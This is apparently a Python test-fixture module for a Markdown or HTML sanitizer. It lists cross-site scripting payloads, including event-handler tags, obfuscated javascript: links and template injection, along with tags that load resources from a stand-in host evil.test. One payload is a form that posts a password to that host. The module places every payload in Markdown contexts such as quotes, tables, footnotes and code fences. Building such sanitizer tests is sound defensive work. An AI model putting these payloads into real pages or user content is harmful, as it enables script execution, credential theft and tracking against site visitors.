"""Texts that try to make a page load, run or open something."""

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a href='javascript:alert(1)'>x</a></svg>",
    "<iframe src='javascript:alert(1)'></iframe><base href='http://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<style>@import 'http://evil.test/x.css'; body { background: url(http://evil.test/y) }</style>",
    "<form action='http://evil.test/'><input name=password autofocus></form>",
    "<video autoplay src='http://evil.test/v'></video><picture><source srcset='http://evil.test/p'></picture>",
    "<link rel=stylesheet href='http://evil.test/z.css'><object data='http://evil.test/o'></object>",
    "![x](http://evil.test/track.png) ![y][r]\n\n[r]: http://evil.test/track2.png",
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>) [x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1)) [x](javascript&colon;alert(1)) [x](\x01javascript:alert(1))",
    "[x](vbscript:x) [x](data:text/html,<script>alert(1)</script>) [x](file:///etc/passwd) [x](blob:x)",
    "<javascript:alert(1)> <data:text/html,x> [x]: javascript:alert(1)\n\n[x]\n\n[x]: javascript:alert(1)",
    '[x](http://h.org "\\" onmouseover=alert(1) x=\\"") [x](http://h.org/"onclick="alert(1))',
    "```html\" onload=alert(1)\n<script>alert(1)</script>\n```",
    "```<img/src=x/onerror=alert(1)>\ncode\n```",
    "| <script>alert(1)</script> | ![x](http://evil.test/t) |\n|-|-|\n| <img src=x onerror=alert(1)> | x |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "[![x](http://evil.test/i)](javascript:alert(1)) [<img src=x onerror=alert(1)>](http://h.org)",
    "- [x] <input onfocus=alert(1) autofocus>\n- [ ] {{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "# <a id=location href=javascript:alert(1)>x</a>\n> <body onload=alert(1)>",
]  # fmt: skip


# Where a hostile text may stand.
PLACES = (
    "{}", "> {}", "- {}", "# {}", "**{}**", "`{}`", "[{}](http://h.org)", "| {} |\n|-|\n| {} |",
    "> [!NOTE]\n> {}", "x[^1]\n\n[^1]: {}", "\\({}\\) and\n\n$$\n{}\n$$", "```mermaid\n{}\n```",
    "<div>\n{}\n</div>", "\\[{}",
)  # fmt: skip

HOSTILE_TEXTS = [place.replace("{}", text) for text in HOSTILE for place in PLACES]
